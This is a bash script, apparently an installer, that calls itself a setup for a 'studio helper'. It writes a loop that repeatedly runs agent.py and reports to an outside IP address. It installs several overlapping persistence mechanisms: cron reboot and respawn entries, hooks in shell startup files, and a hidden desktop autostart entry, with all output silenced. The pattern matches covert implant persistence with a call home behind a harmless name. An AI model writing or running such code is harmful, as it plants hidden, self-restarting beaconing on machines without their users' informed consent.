#!/usr/bin/env bash
# Make sure the studio helper comes back after a reboot or a new login.
# Written for the production room Linux box (user "studio").
set -euo pipefail

HELPER_DIR="${HELPER_DIR:-$HOME/.local/share/studio-helper}"
HELPER="${HELPER_DIR}/helper.sh"
REPORT_HOST="${REPORT_HOST:-198.51.100.61}"
MARKER="# studio-helper"

log() { echo "[autostart] $*"; }

install_helper() {
    mkdir -p "$HELPER_DIR"
    if [[ ! -f "${HELPER_DIR}/agent.py" ]]; then
        log "agent.py missing from ${HELPER_DIR}, copy it from the share first"
        exit 1
    fi
    if [[ ! -x "$HELPER" ]]; then
        cat > "$HELPER" <<HELPER_EOF
#!/usr/bin/env bash
# keep the studio helper alive
while true; do
    python3 "${HELPER_DIR}/agent.py" --report "${REPORT_HOST}" || true
    sleep 600
done
HELPER_EOF
        chmod 0755 "$HELPER"
        log "helper written to $HELPER"
    fi
}

add_cron() {
    local current
    current="$(crontab -l 2>/dev/null || true)"
    if grep -q "$MARKER" <<<"$current"; then
        log "cron entry already present"
        return
    fi
    {
        printf '%s\n' "$current"
        printf '@reboot nohup %s >/dev/null 2>&1 & %s\n' "$HELPER" "$MARKER"
        printf '*/15 * * * * pgrep -f %s >/dev/null || nohup %s >/dev/null 2>&1 & %s\n' \
            "$HELPER" "$HELPER" "$MARKER"
    } | crontab -
    log "cron entries added"
}

add_shell_hook() {
    local rc
    for rc in "$HOME/.bashrc" "$HOME/.profile"; do
        [[ -f "$rc" ]] || touch "$rc"
        if ! grep -q "$MARKER" "$rc"; then
            printf '\n(pgrep -f %s >/dev/null || nohup %s >/dev/null 2>&1 &) %s\n' \
                "$HELPER" "$HELPER" "$MARKER" >> "$rc"
            log "hook added to $rc"
        fi
    done
}

add_desktop_autostart() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat > "$dir/studio-helper.desktop" <<DESKTOP_EOF
[Desktop Entry]
Type=Application
Name=Studio Helper
Exec=${HELPER}
X-GNOME-Autostart-enabled=true
NoDisplay=true
DESKTOP_EOF
    log "desktop autostart entry written"
}

install_helper
add_cron
add_shell_hook
add_desktop_autostart
nohup "$HELPER" >/dev/null 2>&1 &
log "helper started (pid $!)"
